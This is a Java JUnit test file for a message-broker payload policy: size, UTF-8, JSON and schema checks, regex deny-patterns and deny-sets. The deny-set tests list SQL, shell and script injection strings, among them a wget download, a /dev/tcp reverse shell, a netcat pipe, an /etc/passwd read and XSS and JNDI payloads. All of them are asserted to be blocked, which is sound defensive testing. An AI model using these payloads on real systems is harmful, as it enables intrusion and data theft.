/* SPDX-License-Identifier: Apache-2.0 */
package io.sluice.policy;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.policy.config.Configuration;
import io.sluice.policy.payload.Payload;
import java.time.Duration;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PayloadTest {
    private static final String SCHEMA =
            """
            { "type": "object", "required": ["t"], "additionalProperties": false,
              "properties": { "t": { "type": "number", "maximum": 100 }, "id": { "pattern": "^[a-z]+$" } } }
            """;

    private static SessionPolicy session(String payload) {
        return Device.named("x")
                .admittedBy(Configuration.policy(
                        "policy { classes = [ { name = it, publish { allow = [\"#\"] }, payload { " + payload
                                + " } } ] }",
                        Map.of("t.json", SCHEMA)));
    }

    private static Optional<Verdict> objection(String rules, byte[] payload) {
        return session(rules).publishPayload().objection(Payload.of(payload));
    }

    private static boolean passes(String rules, String payload) {
        return objection(rules, payload.getBytes(UTF_8)).isEmpty();
    }

    @Test
    void nothingIsAskedOfPayloadsUnlessSaid() {
        SessionPolicy session =
                Device.named("x").admittedBy(Configuration.policy("policy { classes = [ { name = it } ] }"));
        assertThat(session.publishPayload().isOff()).isTrue();
        assertThat(session.deliveryPayload().isOff()).isTrue();
        assertThat(session.publishPayload().wantedBytes()).isZero();
        assertThat(session.publishPayload().objectionToSize(Integer.MAX_VALUE)).isEmpty();
    }

    @Test
    void sizeAloneNeedsNoContent() {
        PayloadJudge judge = session("max-size = 10B").publishPayload();
        assertThat(judge.wantedBytes()).isZero();
        assertThat(judge.objectionToSize(10)).isEmpty();
        assertThat(judge.objectionToSize(11)).hasValueSatisfying(verdict -> {
            assertThat(verdict.reason()).isEqualTo(Reason.PAYLOAD_SIZE);
            assertThat(verdict.rule()).hasToString("home.conf:1: class it: payload max-size 10");
        });
    }

    @Test
    void whatIsTooLargeToBeLookedAtIsDenied() {
        PayloadJudge judge = session("utf8 = required").publishPayload();
        assertThat(judge.wantedBytes()).isEqualTo(16 * 1024);
        assertThat(judge.objectionToSize(16 * 1024 + 1)).isPresent();
        assertThat(judge.objection(Payload.of(new byte[16 * 1024 + 1]))).isPresent();
    }

    @Test
    void eitherDirectionCanBeLeftAlone() {
        SessionPolicy session = session("on = [delivery], max-size = 1B");
        assertThat(session.publishPayload().isOff()).isTrue();
        assertThat(session.deliveryPayload().objectionToSize(2))
                .hasValueSatisfying(verdict -> assertThat(verdict).isInstanceOf(Verdict.Drop.class));
    }

    @Test
    void aDeniedPayloadIsADeniedPublish() {
        SessionPolicy session = Device.named("x")
                .admittedBy(
                        Configuration.policy(
                                "policy { classes = [ { name = it, on-denied-publish = disconnect, payload { max-size = 1B } } ] }"));
        assertThat(session.publishPayload().objectionToSize(2).orElseThrow()).isInstanceOf(Verdict.Disconnect.class);
        assertThat(session.deliveryPayload().objectionToSize(2).orElseThrow()).isInstanceOf(Verdict.Drop.class);
    }

    @Test
    void utf8IsUtf8Throughout() {
        assertThat(passes("utf8 = required", "grün ☂ \uD83D\uDE00")).isTrue();
        assertThat(passes("utf8 = required", "")).isTrue();
        assertThat(objection("utf8 = required", "grün".getBytes(ISO_8859_1)))
                .hasValueSatisfying(verdict -> assertThat(verdict.reason()).isEqualTo(Reason.PAYLOAD_UTF8));
        // Overlong, a surrogate, cut off.
        assertThat(objection("utf8 = required", new byte[] {(byte) 0xc0, (byte) 0x80}))
                .isPresent();
        assertThat(objection("utf8 = required", new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}))
                .isPresent();
        assertThat(objection("utf8 = required", new byte[] {'a', (byte) 0xe2, (byte) 0x82}))
                .isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"{}", "[1, {\"a\": null}]", "21.5", "\"on\"", "true", " {\"t\":1e3} \n"})
    void oneJsonTextIsJson(String payload) {
        assertThat(passes("json = required", payload)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "on",
                "{",
                "{}{}",
                "1 {}",
                "{} x",
                "{'a':1}",
                "{\"a\":1,}",
                "[1,,2]",
                "NaN",
                "01",
                "{\"a\":1,\"a\":2}",
                "\uFEFF{}",
                "// x\n{}",
                "{\"a\":\"\t\"}"
            })
    void anythingElseIsNone(String payload) {
        assertThat(objection("json = required", payload.getBytes(UTF_8)))
                .hasValueSatisfying(verdict -> assertThat(verdict.reason()).isEqualTo(Reason.PAYLOAD_JSON));
    }

    @Test
    void jsonIsReadAsUtf8AndNotDeeperThanAnyReaderFollows() {
        assertThat(objection("json = required", "{}".getBytes(java.nio.charset.StandardCharsets.UTF_16LE)))
                .isPresent();
        assertThat(passes("json = required", "[".repeat(60) + "]".repeat(60))).isTrue();
        assertThat(passes("json = required", "[".repeat(5_000) + "]".repeat(5_000)))
                .isFalse();
    }

    @Test
    void aSchemaSaysWhatJson() {
        String rules = "schema = \"t.json\"";
        assertThat(passes(rules, "{\"t\": 21.5, \"id\": \"abc\"}")).isTrue();
        for (String payload :
                new String[] {"{}", "21", "{\"t\":101}", "{\"t\":1,\"x\":2}", "{\"t\":1,\"id\":\"A\"}", "x"}) {
            assertThat(objection(rules, payload.getBytes(UTF_8)))
                    .as(payload)
                    .hasValueSatisfying(verdict -> assertThat(verdict.reason()).isEqualTo(Reason.PAYLOAD_SCHEMA));
        }
    }

    @ParameterizedTest
    @CsvSource({
        "open sesame, false",
        "Open  Sesame, false",
        "op\\u0065n ses\\u0061me, false",
        "open%20sesame, false",
        "op\\u0025653n sesame, true",
        "open the door, true"
    })
    void aPatternIsFoundBehindEscapesToo(String payload, boolean passes) {
        assertThat(passes("deny-patterns = [\"(?i)open\\\\s+sesame\"]", payload))
                .isEqualTo(passes);
    }

    @Test
    void brokenUtf8HidesNothingThatFollows() {
        byte[] payload = "\u00c3' OR 1=1 --".getBytes(ISO_8859_1);
        assertThat(objection("deny-sets = [sql]", payload)).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1' OR '1'='1",
                "x\" or \"a\"=\"a",
                "1 or 1=1",
                "1; DROP TABLE users",
                "1 UNION  ALL SELECT 1,2",
                "1/**/union/**/select/**/x",
                "admin'--",
                "x'; exec xp_cmdshell 'dir'",
                "1;WAITFOR DELAY '0:0:5'",
                "'||(select pg_sleep(5))",
                "select load_file('/etc/x')",
                "{\"id\":\"1\\u0027 or \\u00271\\u0027=\\u00271\"}",
                "id=1%27%20or%20%271%27%3D%271"
            })
    void sqlInjectionIsRecognised(String payload) {
        assertThat(passes("deny-sets = [sql]", payload)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "21; reboot",
                "x && wget http://1.2.3.4/a.sh",
                "x | /bin/sh",
                "$(id)",
                "`uname -a`",
                "a;cat$IFS/etc/passwd",
                "() { :; }; echo x",
                "../../../etc/shadow",
                "on\nreboot\n",
                "bash -i >& /dev/tcp/1.2.3.4/99 0>&1",
                "{\"name\":\"x;telnetd -l/bin/sh\"}",
                "x\\u003b reboot",
                "cmd.exe /c dir",
                "a|nc 1.2.3.4 99"
            })
    void shellInjectionIsRecognised(String payload) {
        assertThat(passes("deny-sets = [shell]", payload)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>", "< SCRIPT src=x>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
                        "javascript:alert(1)",
                "${jndi:ldap://x/a}", "{{config.items()}}", "{{''.__class__}}", "{\"n\":\"\\u003cscript\\u003e\"}",
                        "%3Cscript%3E",
                "document.cookie"
            })
    void scriptsAreRecognised(String payload) {
        assertThat(passes("deny-sets = [script]", payload)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "21.5",
                "on",
                "OFF",
                "{\"t\":21.5,\"h\":40,\"id\":7}",
                "{\"mode\":\"or\",\"v\":1}",
                "{\"text\":\"and then is all well\"}",
                "temp=21&id=7&source=3",
                "{\"color\":\"#ff0000\",\"effect\":\"none\"}",
                "2026-11-21T07:00:00Z",
                "Garage; door open",
                "{\"url\":\"http://x/y?a=1&b=2\"}",
                "living room & kitchen",
                "{\"action\":\"select\",\"from\":\"table\"}",
                "{\"Time\":\"2026-11-21T07:00:00\",\"SHT3X\":{\"Temperature\":19.6},\"TempUnit\":\"C\"}",
                "a < b and c > d",
                "path/../x"
            })
    void ordinaryPayloadsPassAllSets(String payload) {
        assertThat(passes("deny-sets = [sql, shell, script]", payload)).isTrue();
    }

    @Test
    void theRuleNamesTheSetAndItsPattern() {
        assertThat(objection("deny-sets = [sql]", "1 or 1=1".getBytes(UTF_8))
                        .orElseThrow()
                        .rule())
                .hasToString("home.conf:1: class it: payload deny-sets sql (numeric-tautology)");
    }

    @Test
    void patternsTakeLinearTime() {
        // Exponential for an engine that backtracks.
        String rules = "deny-patterns = [\"(a|aa|a*)*$x\", \"(x+x+)+y\"], deny-sets = [sql, shell, script]";
        SessionPolicy session = session(rules);
        for (String unit : new String[] {"a", "x", "'", "<", ";", "\\u0027", "%27", "$(", "{{", "../"}) {
            byte[] payload = unit.repeat(16 * 1024 / unit.length()).getBytes(UTF_8);
            long before = System.nanoTime();
            assertThat(session.publishPayload().objection(Payload.of(payload))).isNotNull();
            assertThat(Duration.ofNanos(System.nanoTime() - before)).isLessThan(Duration.ofSeconds(5));
        }
    }

    @Test
    void aWillsPayloadIsJudgedAsIfItWerePublished() {
        Policy policy = Configuration.policy(
                "policy { classes = [ { name = it, publish { allow = [\"#\"] }, payload { json = required } } ] }");
        Will will = new Will("a", 0, false, Optional.empty(), Payload.of("{}".getBytes(UTF_8)));
        assertThat(Device.named("x").leaving(will).admittedBy(policy)).isNotNull();
        Will bad = new Will("a", 0, false, Optional.empty(), Payload.of("gone".getBytes(UTF_8)));
        Verdict refused = Device.named("x").leaving(bad).refusedBy(policy);
        assertThat(refused.reason()).isEqualTo(Reason.WILL);
        assertThat(refused.rule().text()).isEqualTo("class it: payload json required");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "deny-patterns = [\"(\"] | deny-patterns: \"(\" is no usable pattern: missing closing ); write a pattern in RE2",
                "deny-patterns = [\"(?=x)\"] | deny-patterns: \"(?=x)\" is no usable pattern: ",
                "deny-patterns = [\"x*\"] | deny-patterns: \"x*\" is no usable pattern: it is found in every payload",
                "deny-sets = [sql, xss] | deny-sets: there is no set \"xss\"; known: sql, shell, script",
                "schema = \"none.json\" | schema: none.json is no file; name a file that holds a JSON Schema",
                "schema = \"bad.json\" | schema: bad.json is no usable JSON Schema: ",
                "schema = \"remote.json\" | schema: remote.json is no usable JSON Schema: ",
                "schema = \"regex.json\" | schema: regex.json is no usable JSON Schema: ",
                "max-size = 1MiB | max-size: is more than can be judged; write at most 16KiB",
                "on = [subscribe] | on: holds \"subscribe\"; write [publish, delivery]",
                "json = yes | json: is \"yes\"; write one of any, required",
                "jsn = required | unknown key sluice.policy.classes[0].payload.jsn; did you mean json?"
            })
    void whatIsWrongIsSaidWithItsMend(String rules, String problem) {
        assertThat(Configuration.problems(
                        "policy { classes = [ { name = it, payload { " + rules + " } } ] }",
                        Map.of(
                                "bad.json", "{ \"type\": \"strng\" }",
                                "remote.json", "{ \"$ref\": \"https://example.com/s.json\" }",
                                "regex.json", "{ \"pattern\": \"(?=x)\" }")))
                .anySatisfy(said -> assertThat(said).startsWith("home.conf:1: ").contains(problem));
    }
}
